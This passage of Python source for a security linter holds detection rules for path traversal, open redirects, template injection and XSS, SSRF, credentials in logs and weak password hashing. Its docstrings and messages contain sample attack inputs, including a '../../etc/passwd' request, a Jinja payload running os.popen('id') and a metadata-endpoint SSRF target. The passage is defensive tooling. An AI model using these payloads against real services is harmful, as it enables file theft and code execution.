    if isinstance(path, ast.Call) and ctx.qualname(path.func) in _JOIN_FUNCTIONS:
        if any(isinstance(a, ast.Starred) for a in path.args) or path.keywords:
            return [path]
        return [c for part in path.args for c in _path_components(part, ctx, depth + 1)]
    if isinstance(path, ast.BinOp) and isinstance(path.op, ast.Div):
        return [
            *_path_components(path.left, ctx, depth + 1),
            *_path_components(path.right, ctx, depth + 1),
        ]
    if isinstance(path, ast.JoinedStr | ast.BinOp):
        pieces = _pieces(path, ctx, {})
        if len(pieces) > 1:
            found: list[ast.expr] = []
            for index, piece in enumerate(pieces):
                if isinstance(piece, str):
                    continue
                before = pieces[index - 1] if index else None
                glued = before is not None and not (
                    isinstance(before, str) and (before == "" or before.endswith(("/", "\\")))
                )
                if not glued:
                    found.append(piece)
            return found
    return [path]


@python_rule(
    code="SEC014",
    name="path-traversal",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="File path built from request data: ../ reads, overwrites or deletes any file",
    calls=(
        *_OPEN_FUNCTIONS,
        *_DELETE_FUNCTIONS,
        *_TREE_FUNCTIONS,
        *_SEND_FILE,
        *(f"*.{method}" for method in sorted(_PATH_METHODS)),
        "*.save",
    ),
    nodes=(ModuleEnd,),
    cwe=22,
    fix="Keep only the file name (secure_filename / os.path.basename) or check that "
    "os.path.realpath(path) stays under the base directory; serve with send_from_directory.",
)
def path_traversal(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags file operations whose path carries data the client controls: `open()`,
    `pathlib.Path(...).open/read_text/read_bytes/write_text/write_bytes/unlink`, `os.remove`,
    `shutil.copy/move/rmtree`, `os.rename`, Flask `send_file`, Starlette/FastAPI
    `FileResponse`, Django `FileResponse(open(...))`, and uploads
    saved under the client's file name (`request.files["f"].save(os.path.join(DIR,
    f.filename))`, FastAPI `UploadFile.filename` in a path). The data is followed through
    local variables, `os.path.join`, `/`, f-strings and helper functions. Paths reduced to a
    file name (`secure_filename`, `os.path.basename`, `Path(...).name`), paths checked to stay
    under their base directory (`os.path.realpath(p).startswith(BASE)`,
    `p.resolve().is_relative_to(BASE)`), `send_from_directory`, and route parameters that
    match a single URL segment (`/files/{name}`, `<name>`: they cannot contain `/`) for file
    reads and writes are not reported.

    ## Why it breaks production
    A `../` in the name walks out of the intended directory: `GET /download?file=../../
    etc/passwd` or `../app/settings.py` leaks secrets and source, an upload named
    `../../app/main.py` overwrites code, and a delete endpoint removes any file the service
    can write. These are found by every scanner and exploited with a single request.

    ## Example
    ```python
    @app.route("/uploads", methods=["POST"])
    def upload():
        file = request.files["document"]
        file.save(os.path.join(UPLOAD_DIR, file.filename))
        return {"ok": True}
    ```

    ## Use instead
    ```python
    @app.route("/uploads", methods=["POST"])
    def upload():
        file = request.files["document"]
        file.save(os.path.join(UPLOAD_DIR, secure_filename(file.filename)))
        return {"ok": True}
    ```
    To serve files, use `send_from_directory(UPLOAD_DIR, name)`, or resolve the path and check
    `path.resolve().is_relative_to(UPLOAD_DIR)` before opening it.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    func = node.func
    method = func.attr if isinstance(func, ast.Attribute) else None
    paths: list[ast.expr | None]
    if name in _OPEN_FUNCTIONS or name in _DELETE_FUNCTIONS:
        paths = [argument(node, 0, "file") or argument(node, None, "path")]
        operation = f"{name.rsplit('.', 1)[-1]}()"
    elif name in _TREE_FUNCTIONS:
        paths = [argument(node, 0, "src") or argument(node, 0, "path"), argument(node, 1, "dst")]
        operation = f"{name}()"
    elif name in _SEND_FILE:
        paths = [
            argument(node, 0, "path_or_file")
            or argument(node, None, "path")
            or argument(node, None, "filename_or_fp")
        ]
        operation = f"{name.rsplit('.', 1)[-1]}()"
    elif method in _PATH_METHODS and isinstance(func, ast.Attribute):
        if not _is_path_object(func.value, ctx):
            return
        paths = [func.value]
        operation = f"Path.{method}()"
    elif method == "save" and isinstance(func, ast.Attribute):
        if not node.args or not _is_upload(func.value, ctx):
            return
        paths = [node.args[0]]
        operation = "FileStorage.save()"
    else:
        return
    candidates = [
        component
        for path in paths
        if path is not None and not is_literal(path)
        for component in _path_components(path, ctx)
    ]
    if not candidates:
        return
    sanitizers = _PATH_SANITIZERS
    if name not in _TREE_FUNCTIONS:
        sanitizers = sanitizers | {SEGMENT_PARAMETERS}
    serving = name in _SEND_FILE
    advice = (
        "Serve from a fixed directory with send_from_directory(DIR, name) (Flask) or check "
        "that the resolved path stays under the directory"
        if serving
        else "Keep only the file name (werkzeug's secure_filename, os.path.basename) or check "
        "that os.path.realpath(path).startswith(BASE_DIR) before using it"
    )

    def report(source: str) -> None:
        ctx.report(
            node,
            f"{operation} uses a file path built from {source}: `../` in it reaches any file "
            f"the service can access (path traversal). {advice}",
        )

    sink_flow(candidates, ctx, report, sanitizers=sanitizers, web_only=True)


# -- SEC015 ------------------------------------------------------------------------------------

_REDIRECTS = (
    "flask.redirect",
    "flask.helpers.redirect",
    "werkzeug.utils.redirect",
    "quart.redirect",
    "django.shortcuts.redirect",
    "django.http.HttpResponseRedirect",
    "django.http.response.HttpResponseRedirect",
    "django.http.HttpResponsePermanentRedirect",
    "django.http.response.HttpResponsePermanentRedirect",
    "starlette.responses.RedirectResponse",
    "fastapi.responses.RedirectResponse",
)
_REDIRECT_SANITIZERS = frozenset(
    {"flask.url_for", "flask.helpers.url_for", "url_for", "django.urls.reverse", "reverse"}
    | {"django.urls.reverse_lazy", "reverse_lazy", SAFE_REDIRECT_CHECK, URL_HOST_CHECK}
    # the service's own address: not chosen by whoever wrote the link
    | {"request.url", "request.base_url", "request.url_root", "request.host_url"}
    | {"request.path", "request.full_path", "request.path_info", "request.script_root"}
)


@python_rule(
    code="SEC015",
    name="open-redirect",
    category=Category.SECURITY,
    severity=Severity.MEDIUM,
    summary="Redirect to a URL taken from the request: links to your site bounce to phishing",
    calls=_REDIRECTS,
    nodes=(ModuleEnd,),
    cwe=601,
    fix="Redirect only to relative paths or allowed hosts (url_has_allowed_host_and_scheme), "
    "or to url_for()/reverse() of a view.",
)
def open_redirect(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags Flask `redirect`, Django `redirect`/`HttpResponseRedirect` and Starlette/FastAPI
    `RedirectResponse` whose target URL comes from the request (`?next=`, a form field, a
    handler parameter) in the part that decides the host: `redirect(f"/orders/{order_id}")`
    and `redirect(f"{FRONTEND_URL}/done?ref={ref}")` keep their host and are fine. Not
    reported either: targets built with `url_for()`/`reverse()`, and functions that check
    the URL first (`url_has_allowed_host_and_scheme`, an `is_safe_url` helper,
    `urlparse(url).netloc` tests, or `url.startswith("/") and not url.startswith("//")`).
    Redirects to the `Referer` or to the current request's own URL are not reported.

    ## Why it breaks production
    A link such as `https://your-bank.example/login?next=https://your-bank.example.evil.io`
    looks trustworthy, and after the login the user lands on the attacker's copy of your site,
    which asks for the password again or for a payment. Open redirects also defeat OAuth
    redirect-URI checks and turn up in every security review and bug-bounty report.

    ## Example
    ```python
    @app.post("/login")
    def login():
        ...
        return redirect(request.args.get("next", "/"))
    ```

    ## Use instead
    ```python
    @app.post("/login")
    def login():
        ...
        target = request.args.get("next", "/")
        if not target.startswith("/") or target.startswith("//"):
            target = "/"
        return redirect(target)
    ```
    Django: `url_has_allowed_host_and_scheme(target, allowed_hosts={request.get_host()})`.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call):
        return
    target = (
        argument(node, 0, "location")
        or argument(node, None, "url")
        or argument(node, None, "to")
        or argument(node, None, "redirect_to")
    )
    if target is None or is_literal(target):
        return
    deciding = _host_deciding(target, ctx)
    if not deciding:
        return
    name = (ctx.call_name or "redirect").rsplit(".", 1)[-1]

    def report(source: str) -> None:
        if "referer" in source.lower() or "referrer" in source.lower():
            return  # back to the page the user came from: the attacker gains nothing
        ctx.report(
            node,
            f"{name}() sends the browser to a URL taken from {source}: a link to this "
            "endpoint can bounce your users to any site, e.g. a look-alike login page (open "
            "redirect). Redirect only to relative paths or allowed hosts "
            "(url_has_allowed_host_and_scheme, url_for/reverse)",
        )

    sink_flow(deciding, ctx, report, sanitizers=_REDIRECT_SANITIZERS, web_only=True)


# -- SEC016 ------------------------------------------------------------------------------------

_TEMPLATE_SOURCES = (
    "flask.render_template_string",
    "flask.templating.render_template_string",
    "quart.render_template_string",
    "jinja2.Template",
    "jinja2.environment.Template",
)
_SAFE_MARKUP = (
    "markupsafe.Markup",
    "flask.Markup",
    "jinja2.Markup",
    "django.utils.safestring.mark_safe",
    "django.utils.safestring.SafeString",
    "django.utils.html.format_html",
)
_HTML_RESPONSES = (
    "starlette.responses.HTMLResponse",
    "fastapi.responses.HTMLResponse",
    "django.http.HttpResponse",
    "django.http.response.HttpResponse",
)
_JINJA_ENVIRONMENTS = ("jinja2.Environment", "jinja2.environment.Environment")
_HTML_ESCAPES = frozenset(
    {"markupsafe.escape", "html.escape", "django.utils.html.escape", "flask.escape"}
    | {"jinja2.escape", "escape", "conditional_escape", "django.utils.html.conditional_escape"}
    | {"bleach.clean", "nh3.clean", "clean", "django.utils.html.escapejs", "escapejs"}
    | {"markupsafe.Markup.escape"}
)
_HTML_TAG = re.compile(r"<\s*/?\s*[a-zA-Z][a-zA-Z0-9-]*[\s>/]|<!--")
_HTML_EVIDENCE = re.compile(r"""\.html?['"]|text/html|HTMLResponse|TemplateResponse""")


def _html_built_from(content: ast.expr, ctx: PythonContext) -> list[ast.expr]:
    """The values interpolated into an HTML string literal (``f"<h1>{name}</h1>"``)."""
    pieces = _pieces(content, ctx, {})
    if not any(isinstance(p, str) and _HTML_TAG.search(p) for p in pieces):
        return []
    return [p for p in pieces if not isinstance(p, str)]


@python_rule(
    code="SEC016",
    name="template-injection-or-xss",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Request data used as template source or marked safe HTML (SSTI / XSS)",
    calls=(
        *_TEMPLATE_SOURCES,
        "*.from_string",
        *_SAFE_MARKUP,
        *_HTML_RESPONSES,
        *_JINJA_ENVIRONMENTS,
    ),
    nodes=(ast.Return, ModuleEnd),
    cwe=79,
    fix="Keep templates constant and pass data as variables; let autoescaping escape it.",
)
def template_injection_or_xss(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags request data that reaches HTML unescaped or becomes template code:
    - used as the *source* of a template: `render_template_string(tainted)`,
      `jinja2.Template(tainted)`, `env.from_string(tainted)` (server-side template injection);
    - wrapped as safe HTML: `Markup(...)`, Django `mark_safe(...)`/`SafeString(...)`, or used
      in the format string of `format_html(...)` (its arguments are escaped, the format
      string is not);
    - interpolated into an HTML string returned as `HTMLResponse`/`HttpResponse` or from a
      Flask view (reflected XSS);
    - and a `jinja2.Environment(loader=...)` created without `autoescape` (or with
      `autoescape=False`) in a service module that renders HTML templates. Flask's and
      Starlette's own template environments autoescape and are not reported.
    Values passed through `escape()`/`html.escape()`/`bleach.clean()` are fine.

    ## Why it breaks production
    Template source from the request runs on the server: `{{ cycler.__init__.__globals__.os
    .popen('id').read() }}` is remote code execution. Unescaped request data in a page runs
    the attacker's JavaScript in your users' sessions (stolen sessions, actions on their
    behalf); a link is enough to deliver it.

    ## Example
    ```python
    @app.get("/hello")
    def hello():
        name = request.args.get("name", "")
        return render_template_string(f"<h1>Hello {name}</h1>")
    ```

    ## Use instead
    ```python
    @app.get("/hello")
    def hello():
        name = request.args.get("name", "")
        return render_template_string("<h1>Hello {{ name }}</h1>", name=name)
    ```
    Create Jinja environments with `autoescape=select_autoescape()`.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        _report_environments(ctx)
        return
    if ctx.facts.is_test:
        return
    if isinstance(node, ast.Return):
        _flask_html_return(node, ctx)
        return
    if not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    short = name.rsplit(".", 1)[-1] if name else "from_string"
    if name in _JINJA_ENVIRONMENTS:
        if not has_star_kwargs(node):
            ctx.rule_state(list, module=True).append(node)
        return
    source_argument = argument(node, 0, "source")
    if name in _TEMPLATE_SOURCES or (
        isinstance(node.func, ast.Attribute) and node.func.attr == "from_string"
    ):
        if name not in _TEMPLATE_SOURCES and not _jinja_receiver(node.func, ctx):
            return
        if source_argument is None or is_literal(source_argument):
            return

        def report_ssti(source: str) -> None:
            ctx.report(
                node,
                f"{short}() compiles a template whose source comes from {source}: template "
                "syntax in it runs on the server, e.g. {{ cycler.__init__.__globals__.os"
                ".popen('id').read() }} (server-side template injection, CWE-1336). Keep the "
                "template constant and pass the data as variables",
                severity=Severity.CRITICAL,
            )

        sink_flow([source_argument], ctx, report_ssti, web_only=True)
        return
    if name in _SAFE_MARKUP:
        content = argument(node, 0, "format_string" if short == "format_html" else "s")
        if content is None or is_literal(content):
            return
        pieces = _pieces(content, ctx, {})
        values = [p for p in pieces if not isinstance(p, str)]
        what = "the format string of format_html()" if short == "format_html" else f"{short}()"

        def report_safe(source: str) -> None:
            ctx.report(
                node,
                f"{what} marks HTML built from {source} as safe: its <script> runs in your "
                "users' browsers (cross-site scripting). Escape the value "
                '(format_html("<b>{}</b>", value), Markup("<b>%s</b>") % value) or let the '
                "template autoescape it",
            )

        sink_flow(values, ctx, report_safe, sanitizers=_HTML_ESCAPES, web_only=True)
        return
    if name in _HTML_RESPONSES:
        content = argument(node, 0, "content")
        if content is None or is_literal(content):
            return
        values = _html_built_from(content, ctx)

        def report_html(source: str) -> None:
            ctx.report(
                node,
                f"{short} returns HTML built from {source} without escaping it: a <script> in "
                "the value runs in your users' browsers (reflected cross-site scripting). "
                "Render a template (autoescaped) or html.escape() the value",
            )

        sink_flow(values, ctx, report_html, sanitizers=_HTML_ESCAPES, web_only=True)


def _jinja_receiver(func: ast.expr, ctx: PythonContext) -> bool:
    if not isinstance(func, ast.Attribute):
        return False
    receiver = (ctx.qualname(func.value) or dotted(func.value) or "").lower()
    return "jinja" in receiver or receiver.rsplit(".", 1)[-1] in {"env", "environment"}


def _flask_html_return(node: ast.Return, ctx: PythonContext) -> None:
    """A Flask view returning an f-string of HTML: Flask serves a str as text/html."""
    route = ctx.route
    if route is None or route.framework not in {"flask", "quart"} or node.value is None:
        return
    if not isinstance(node.value, ast.JoinedStr | ast.BinOp | ast.Call | ast.Name):
        return
    values = _html_built_from(node.value, ctx)
    if not values:
        return

    def report(source: str) -> None:
        ctx.report(
            node,
            f"the view returns HTML built from {source} without escaping it: Flask serves it "
            "as text/html and a <script> in the value runs in your users' browsers "
            "(reflected cross-site scripting). Use render_template() or markupsafe.escape()",
        )

    sink_flow(values, ctx, report, sanitizers=_HTML_ESCAPES, web_only=True)


def _report_environments(ctx: PythonContext) -> None:
    environments: list[ast.Call] = ctx.rule_state(list, module=True)
    if not environments or not in_service_code(ctx):
        return
    if not _HTML_EVIDENCE.search(ctx.source):
        return  # templates for e-mails, prompts or config files: not a page
    for call in environments:
        if keyword_value(call, "loader") is None:
            continue  # ``Environment().from_string(...)`` for text snippets, not pages
        autoescape = keyword_value(call, "autoescape")
        if isinstance(autoescape, ast.Name):
            autoescape = ctx.value_of(autoescape.id) or autoescape
        if autoescape is not None and not is_false(autoescape):
            continue
        what = "autoescape=False" if autoescape is not None else "no autoescape"
        ctx.report(
            call,
            f"jinja2.Environment() with {what} in a module that renders HTML: every "
            "{{ value }} from a request is inserted into the page unescaped (cross-site "
            "scripting). Pass autoescape=select_autoescape() (or True)",
            confidence=Confidence.MEDIUM,
        )


# -- SEC017 ------------------------------------------------------------------------------------

_HTTP_VERBS = frozenset({"get", "post", "put", "patch", "delete", "head", "options"})
_HTTP_CLIENT_PREFIXES = ("requests.", "httpx.", "aiohttp.", "urllib3.")
_SSRF_SANITIZERS = frozenset({URL_HOST_CHECK})


def _outbound_url(node: ast.Call, name: str) -> ast.expr | None:
    """The URL argument of an HTTP client call (None: not a request)."""
    last = name.rsplit(".", 1)[-1]
    if name in {"urllib.request.urlopen", "urllib.request.Request"}:
        return argument(node, 0, "url")
    if not name.startswith(_HTTP_CLIENT_PREFIXES):
        return None
    if last in _HTTP_VERBS or last in {"ws_connect", "urlopen"}:
        return argument(node, 0, "url")
    if last in {"request", "stream"}:
        return argument(node, 1, "url")
    return None


@python_rule(
    code="SEC017",
    name="server-side-request-forgery",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Outbound HTTP request to a URL taken from the request (SSRF)",
    calls=("requests.*", "httpx.*", "aiohttp.*", "urllib3.*", "urllib.request.*"),
    nodes=(ModuleEnd,),
    cwe=918,
    fix="Only fetch hosts from an allow-list: check urlparse(url).hostname in ALLOWED_HOSTS.",
)
def server_side_request_forgery(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `requests`, `httpx` (functions and `Client`/`AsyncClient` methods), `aiohttp`
    session methods, `urllib3` and `urllib.request.urlopen` calls whose URL comes from the
    request in the part that decides the host -- `requests.get(url)` with `url` from a query
    parameter, or `f"https://{host}/api"`. URLs whose host is fixed by the code
    (`f"{API_BASE}/users/{user_id}"`, `f"https://api.example.com/items/{sku}"`) are fine, as
    are functions that check the host first (`urlparse(url).hostname in ALLOWED_HOSTS`,
    `url.startswith("https://api.example.com/")`, an `is_allowed_url(url)` helper).

    ## Why it breaks production
    The service fetches whatever the client names, from inside your network: the cloud
    metadata endpoint (`http://169.254.169.254/` -- instance credentials), admin ports on
    localhost, internal services without authentication, and file or gopher URLs in some
    clients. Responses or timing leak what is there; webhooks, URL previews and "import from
    URL" features are the usual entry points.

    ## Example
    ```python
    @app.post("/preview")
    def preview(url: str):
        page = requests.get(url, timeout=5)
        return {"title": extract_title(page.text)}
    ```

    ## Use instead
    ```python
    @app.post("/preview")
    def preview(url: str):
        if urlparse(url).hostname not in ALLOWED_PREVIEW_HOSTS:
            raise HTTPException(400, "host not allowed")
        page = requests.get(url, timeout=5, allow_redirects=False)
        return {"title": extract_title(page.text)}
    ```
    When any public URL must be accepted, resolve the host and refuse private, loopback and
    link-local addresses, and do not follow redirects blindly.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    url = _outbound_url(node, name)
    if url is None or is_literal(url):
        return
    deciding = _host_deciding(url, ctx)
    if not deciding:
        return
    parts = name.split(".")
    if len(parts) > 2 and parts[-2][:1].isupper():
        short = f"{parts[-2]}.{parts[-1]}"  # ``Session.get``, ``AsyncClient.post``
    elif parts[0] in {"requests", "httpx", "urllib3"}:
        short = f"{parts[0]}.{parts[-1]}"
    else:
        short = parts[-1]

    def report(source: str) -> None:
        ctx.report(
            node,
            f"{short}() fetches a URL taken from {source}: the client can make the service "
            "call internal addresses -- cloud metadata (169.254.169.254), localhost admin "
            "ports, internal APIs (server-side request forgery). Check urlparse(url).hostname "
            "against an allow-list (and refuse private IPs) before fetching",
        )

    sink_flow(deciding, ctx, report, sanitizers=_SSRF_SANITIZERS, web_only=True)


# -- SEC018 ------------------------------------------------------------------------------------

_LOG_METHOD_CALLS = tuple(
    f"*.{m}"
    for m in ("debug", "info", "warning", "warn", "error", "exception", "critical", "fatal", "log")
)
_LOG_OPTIONS = frozenset({"exc_info", "stack_info", "stacklevel", "extra"})
_TEXT_CONVERSIONS = frozenset({"str", "repr", "format", "decode", "encode", "strip"})
_HEADER_CONTAINERS = frozenset({"headers", "META", "cookies", "COOKIES"})


def _secret_reference(expr: ast.AST, ctx: PythonContext, depth: int = 0) -> str | None:
    """The credential a logged value shows in clear (``password``, ``self.api_key``,
    ``request.headers["Authorization"]``, ``os.getenv("API_TOKEN")``, the request headers
    as a whole); None for masked or derived values (``len(password)``, ``token[-4:]``)."""
    if depth > 3:
        return None
    if isinstance(expr, ast.FormattedValue):
        return _secret_reference(expr.value, ctx, depth + 1)
    if isinstance(expr, ast.Name):
        return f"`{expr.id}`" if secret_name(expr.id) else None
    if isinstance(expr, ast.Attribute):
        if secret_name(expr.attr):
            return f"`{ctx.segment(expr) or expr.attr}`"
        if expr.attr in _HEADER_CONTAINERS and _is_request_value(expr.value, ctx):
            return f"the request headers `{ctx.segment(expr)}` (Authorization, Cookie)"
        return None
    if isinstance(expr, ast.Subscript):
        if isinstance(expr.slice, ast.Slice):
            return None  # ``token[-4:]``: a masked form
        key = constant_str(expr.slice)
        if key is not None and secret_name(key):
            return f"`{' '.join(ctx.segment(expr).split())[:60]}`"
        return None
    if isinstance(expr, ast.Call):
        func = expr.func
        last = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        if last in {"get", "getenv", "pop"} and expr.args:
            key = constant_str(expr.args[0])
            if key is not None and secret_name(key):
                return f"`{' '.join(ctx.segment(expr).split())[:60]}`"
            return None
        if last in _TEXT_CONVERSIONS or last == "dict":
            inner = func.value if isinstance(func, ast.Attribute) and last != "dict" else None
            target = inner if inner is not None else (expr.args[0] if expr.args else None)
            if isinstance(func, ast.Attribute) and last in {"format"}:
                return None
            return _secret_reference(target, ctx, depth + 1) if target is not None else None
    return None


def _is_request_value(expr: ast.AST, ctx: PythonContext) -> bool:
    qualified = ctx.qualname(expr) if isinstance(expr, ast.Name | ast.Attribute) else None
    if qualified in {"flask.request", "quart.request"}:
        return True
    return isinstance(expr, ast.Name) and expr.id in {"request", "req"}


def _logged_values(node: ast.Call, ctx: PythonContext, is_print: bool) -> list[ast.expr]:
    values: list[ast.expr] = []
    args = list(node.args)
    if not is_print and isinstance(node.func, ast.Attribute) and node.func.attr == "log":
        args = args[1:]  # the level
    for index, arg in enumerate(args):
        if isinstance(arg, ast.Starred):
            continue
        if index == 0 or is_print:
            values.extend(p for p in _pieces(arg, ctx, {}) if not isinstance(p, str))
        else:
            values.append(arg)  # ``%s`` arguments
    for keyword in node.keywords:
        if keyword.arg == "extra" and isinstance(keyword.value, ast.Dict):
            for key, value in zip(keyword.value.keys, keyword.value.values, strict=True):
                if (
                    key is not None
                    and secret_name(constant_str(key) or "")
                    and not (is_literal(value))
                ):
                    values.append(key)
                values.append(value)
        elif keyword.arg is not None and keyword.arg not in _LOG_OPTIONS and not is_print:
            values.append(keyword.value)  # structlog-style ``logger.info("login", token=t)``
    return values


@python_rule(
    code="SEC018",
    name="secret-in-log-message",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Password, token, API key or Authorization header written to the logs",
    calls=(*_LOG_METHOD_CALLS, "builtins.print"),
    cwe=532,
    fix="Do not log credentials; log whether one is set, or its last 4 characters.",
)
def secret_in_log_message(node: ast.Call, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags logging calls (`logger.info/debug/warning/error/exception`, `logging.*`,
    structlog) and `print()` in service code whose message interpolates a credential -- a
    value named `password`, `api_key`, `token`, `client_secret`, `SECRET_KEY`..., a
    `["password"]`/`.get("api_key")` lookup, `request.headers["Authorization"]` or the whole
    request headers -- through an f-string, `%`, `.format()`, `%s` arguments, `extra=` or
    keyword arguments. Derived or masked values (`len(password)`, `token[-4:]`,
    `api_key is not None`, `"***"`) and names that are not credentials (`token_type`,
    `csrf_token`, `password_reset_url`) are fine.

    ## Why it breaks production
    Logs are shipped to aggregators and third-party services, kept for months, copied into
    tickets and readable by far more people than the credential's owners. A password or a
    bearer token in a log line is a credential leak that outlives the rotation of the
    database it came from, and it is often how incident reports start.

    ## Example
    ```python
    logger.info(f"login attempt user={username} password={password}")
    ```

    ## Use instead
    ```python
    logger.info("login attempt user=%s", username)
    ```
    """
    if ctx.facts.is_test or ctx.facts.is_example:
        return
    is_print = ctx.call_name == "builtins.print"
    if is_print:
        if not in_service_code(ctx):
            return
    elif log_call(node, ctx) is None:
        return
    for value in _logged_values(node, ctx, is_print):
        if isinstance(value, ast.Constant):
            if isinstance(value.value, str) and secret_name(value.value):
                what: str | None = f'the "{value.value}" field'
            else:
                continue
        else:
            what = _secret_reference(value, ctx)
        if what is None:
            continue
        sink = "print() writes" if is_print else "this log call writes"
        ctx.report(
            node,
            f"{sink} {what} to the logs: credentials there are shipped to aggregators, kept "
            "for months and readable by far more people than their owners (credential leak). "
            "Log that it is set, or a masked form (its last 4 characters), never the value",
        )
        return


# -- SEC019 ------------------------------------------------------------------------------------

_WEAK_PASSLIB_SCHEMES = frozenset(
    {"md5_crypt", "des_crypt", "bsdi_crypt", "bigcrypt", "crypt16", "apr_md5_crypt"}
    | {"sun_md5_crypt", "ldap_md5", "ldap_salted_md5", "ldap_sha1", "ldap_salted_sha1"}
    | {"ldap_plaintext", "ldap_hex_md5", "ldap_hex_sha1", "ldap_des_crypt", "ldap_md5_crypt"}
    | {"plaintext", "hex_md5", "hex_sha1", "hex_sha256", "hex_sha512", "mysql323", "mysql41"}
    | {"postgres_md5", "oracle10", "oracle11", "lmhash", "nthash", "msdcc", "msdcc2"}
    | {"cisco_pix", "cisco_asa", "cisco_type7", "htdigest", "roundup_plaintext"}
    | {"django_salted_md5", "django_salted_sha1", "django_des_crypt", "django_disabled"}
)
_WEAK_DJANGO_HASHERS = (
    "MD5PasswordHasher",
    "SHA1PasswordHasher",
    "UnsaltedMD5PasswordHasher",
    "UnsaltedSHA1PasswordHasher",
    "CryptPasswordHasher",
)
_MIN_BCRYPT_ROUNDS = 10
_MIN_PBKDF2_ITERATIONS = 100_000
_PBKDF2_CALLS = (
    "hashlib.pbkdf2_hmac",
    "cryptography.hazmat.primitives.kdf.pbkdf2.PBKDF2HMAC",
)


def _int_value(expr: ast.expr | None, ctx: PythonContext) -> int | None:
    if isinstance(expr, ast.Name):
        expr = ctx.value_of(expr.id)
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Mult):
        left, right = _int_value(expr.left, ctx), _int_value(expr.right, ctx)
        return left * right if left is not None and right is not None else None
    if isinstance(expr, ast.Constant) and type(expr.value) is int:
        return expr.value
    return None


def _strings(expr: ast.expr | None, ctx: PythonContext) -> list[str] | None:
    if isinstance(expr, ast.Name):
        expr = ctx.value_of(expr.id) or _module_value(expr.id, ctx)
    if isinstance(expr, ast.List | ast.Tuple):
        texts = [constant_str(e) for e in expr.elts]
        return [t for t in texts if t is not None]
    text = constant_str(expr)
    return [text] if text is not None else None


@python_rule(
    code="SEC019",
    name="weak-password-scheme",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Password hashing configured with a broken scheme or too few rounds/iterations",
    calls=("passlib.context.CryptContext", "bcrypt.gensalt", *_PBKDF2_CALLS, "*.using"),
    nodes=(ast.Assign,),
    cwe=916,
    fix="Use argon2 or bcrypt (>= 12 rounds), or PBKDF2-SHA256 with >= 600000 iterations.",
)
def weak_password_scheme(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags password hashing set up with a scheme or cost that a stolen hash table does not
    survive: a passlib `CryptContext(schemes=[...])` whose default scheme is broken
    (`md5_crypt`, `des_crypt`, `ldap_md5`, `hex_sha256`, `plaintext`...; legacy schemes listed
    after a strong default and marked `deprecated="auto"` are fine -- they are upgraded on
    login), `bcrypt.gensalt(rounds=...)` below 10, `hashlib.pbkdf2_hmac`/`PBKDF2HMAC` or
    passlib `.using(rounds=...)` with fewer than 100,000 iterations, and a Django
    `PASSWORD_HASHERS` whose first (default) hasher is MD5, SHA1, unsalted or crypt in a
    settings module (test and local settings, which use fast hashers on purpose, are not
    reported).

    ## Why it breaks production
    When the user table leaks, the hash scheme is all that stands between the attacker and
    your users' passwords -- which they reuse for e-mail and banking. MD5-crypt, DES-crypt and
    unsalted hashes fall to commodity GPUs in hours; a few thousand PBKDF2 iterations or
    bcrypt cost 4 are millions of guesses per second.

    ## Example
    ```python
    pwd_context = CryptContext(schemes=["md5_crypt"])
    salt = bcrypt.gensalt(rounds=4)
    key = hashlib.pbkdf2_hmac("sha256", password, salt, 1000)
    ```

    ## Use instead
    ```python
    pwd_context = CryptContext(schemes=["argon2", "md5_crypt"], deprecated="auto")
    salt = bcrypt.gensalt()  # 12 rounds
    key = hashlib.pbkdf2_hmac("sha256", password, salt, 600_000)
    ```
    """
    if ctx.facts.is_test:
        return
    if isinstance(node, ast.Assign):
        _django_hashers(node, ctx)
        return
    if not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    if name == "passlib.context.CryptContext":
        _crypt_context(node, ctx)
    elif name == "bcrypt.gensalt":
        rounds = _int_value(argument(node, 0, "rounds"), ctx)
        if rounds is not None and rounds < _MIN_BCRYPT_ROUNDS:
            ctx.report(
                node,
                f"bcrypt.gensalt(rounds={rounds}): cost {rounds} is {2 ** (12 - rounds)}x "
                "cheaper to brute-force than the default 12. Use bcrypt.gensalt() (12) or more",
            )
    elif name in _PBKDF2_CALLS:
        iterations = _int_value(argument(node, 3, "iterations"), ctx)
        if iterations is not None and iterations < _MIN_PBKDF2_ITERATIONS:
            ctx.report(
                node,
                f"PBKDF2 with {iterations:,} iterations: a leaked hash is brute-forced at "
                "millions of guesses per second. Use >= 600,000 iterations for SHA-256 "
                "(OWASP), or argon2/bcrypt",
            )
    elif isinstance(node.func, ast.Attribute) and node.func.attr == "using":
        _passlib_using(node, ctx)


def _crypt_context(node: ast.Call, ctx: PythonContext) -> None:
    schemes = _strings(argument(node, 0, "schemes"), ctx)
    if not schemes:
        return
    default = constant_str(keyword_value(node, "default")) or schemes[0]
    if default not in _WEAK_PASSLIB_SCHEMES:
        return
    ctx.report(
        node,
        f'CryptContext hashes new passwords with "{default}", a scheme that falls to GPU '
        "cracking in hours once the user table leaks. Make argon2 or bcrypt the first scheme "
        'and keep old ones only for verification with deprecated="auto"',
    )


def _passlib_using(node: ast.Call, ctx: PythonContext) -> None:
    assert isinstance(node.func, ast.Attribute)
    receiver = ctx.qualname(node.func.value) or ""
    if not receiver.startswith("passlib.hash."):
        return
    scheme = receiver.rsplit(".", 1)[-1]
